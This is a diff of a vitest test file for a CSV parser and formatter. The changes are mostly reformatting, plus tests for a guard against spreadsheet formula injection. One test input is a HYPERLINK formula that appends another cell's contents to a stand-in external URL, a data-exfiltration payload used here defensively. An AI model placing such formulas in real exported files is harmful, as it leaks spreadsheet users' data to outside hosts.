@@ -1,7 +1,14 @@
 // The CSV reader and writer: what spreadsheets actually save (quotes, commas and newlines inside
 // fields, CRLF, a BOM), and the errors that name the line.
 import { describe, expect, it } from 'vitest';
-import { csvField, formatCsv, guardSpreadsheetCell, isBlankRecord, parseCsv, unguardSpreadsheetCell } from '../../src/domain/csv.js';
+import {
+  csvField,
+  formatCsv,
+  guardSpreadsheetCell,
+  isBlankRecord,
+  parseCsv,
+  unguardSpreadsheetCell,
+} from '../../src/domain/csv.js';
 
 function fields(text: string): string[][] {
   const r = parseCsv(text);
@@ -11,13 +18,25 @@ function fields(text: string): string[][] {
 
 describe('parseCsv', () => {
   it('splits plain records on LF, with or without a final newline', () => {
-    expect(fields('a,b,c\n1,2,3\n')).toEqual([['a', 'b', 'c'], ['1', '2', '3']]);
-    expect(fields('a,b,c\n1,2,3')).toEqual([['a', 'b', 'c'], ['1', '2', '3']]);
+    expect(fields('a,b,c\n1,2,3\n')).toEqual([
+      ['a', 'b', 'c'],
+      ['1', '2', '3'],
+    ]);
+    expect(fields('a,b,c\n1,2,3')).toEqual([
+      ['a', 'b', 'c'],
+      ['1', '2', '3'],
+    ]);
   });
 
   it('accepts CRLF and lone CR line ends', () => {
-    expect(fields('a,b\r\n1,2\r\n')).toEqual([['a', 'b'], ['1', '2']]);
-    expect(fields('a,b\r1,2\r')).toEqual([['a', 'b'], ['1', '2']]);
+    expect(fields('a,b\r\n1,2\r\n')).toEqual([
+      ['a', 'b'],
+      ['1', '2'],
+    ]);
+    expect(fields('a,b\r1,2\r')).toEqual([
+      ['a', 'b'],
+      ['1', '2'],
+    ]);
   });
 
   it('drops a UTF-8 byte order mark', () => {
@@ -26,12 +45,17 @@ describe('parseCsv', () => {
   });
 
   it('reads quoted fields holding commas, doubled quotes and newlines', () => {
-    expect(fields('a,"b, c","say ""hi""","line 1\nline 2",e\n')).toEqual([['a', 'b, c', 'say "hi"', 'line 1\nline 2', 'e']]);
+    expect(fields('a,"b, c","say ""hi""","line 1\nline 2",e\n')).toEqual([
+      ['a', 'b, c', 'say "hi"', 'line 1\nline 2', 'e'],
+    ]);
     expect(fields('"x\r\ny"\r\nz\r\n')).toEqual([['x\r\ny'], ['z']]);
   });
 
   it('keeps empty fields, including a trailing one and an empty quoted one', () => {
-    expect(fields('a,,b,\n"",x\n')).toEqual([['a', '', 'b', ''], ['', 'x']]);
+    expect(fields('a,,b,\n"",x\n')).toEqual([
+      ['a', '', 'b', ''],
+      ['', 'x'],
+    ]);
   });
 
   it('numbers records by the line they start on, counting newlines inside quotes', () => {
@@ -95,9 +119,12 @@ describe('the spreadsheet formula guard', () => {
       expect(guardSpreadsheetCell(value)).toBe(`'${value}`);
       expect(csvField(value)).toBe(`"'${value}"`);
     }
-    expect(csvField('=HYPERLINK("https://x.example/?"&B2,"click")')).toBe(`"'=HYPERLINK(""https://x.example/?""&B2,""click"")"`);
+    expect(csvField('=HYPERLINK("https://x.example/?"&B2,"click")')).toBe(
+      `"'=HYPERLINK(""https://x.example/?""&B2,""click"")"`,
+    );
     // Triggers inside a cell, and plain text, are left alone.
-    for (const v of ['a=1', 'PIC-0042', '2024-09-30T23:30-04:00', '60+', 'CAD-2024/1.#2', '']) expect(csvField(v)).toBe(v);
+    for (const v of ['a=1', 'PIC-0042', '2024-09-30T23:30-04:00', '60+', 'CAD-2024/1.#2', ''])
+      expect(csvField(v)).toBe(v);
   });
 
   it('gives a cell that truly begins with a quote before a trigger a quote of its own, and leaves other quotes alone', () => {
@@ -110,7 +137,8 @@ describe('the spreadsheet formula guard', () => {
   it('is undone exactly by unguardSpreadsheetCell, for any text', () => {
     const parts = [`'`, `''`, ...TRIGGERS, 'a', ' ', '"', ',', '\n', '1'];
     let values = [''];
-    for (let depth = 0; depth < 3; depth++) values = [...values, ...values.flatMap((v) => parts.map((p) => `${p}${v}`))];
+    for (let depth = 0; depth < 3; depth++)
+      values = [...values, ...values.flatMap((v) => parts.map((p) => `${p}${v}`))];
     expect(values.length).toBeGreaterThan(2000);
     for (const v of values) expect(unguardSpreadsheetCell(guardSpreadsheetCell(v))).toBe(v);
     // Through the CSV text too: what parseCsv reads back, unguarded, is the original.
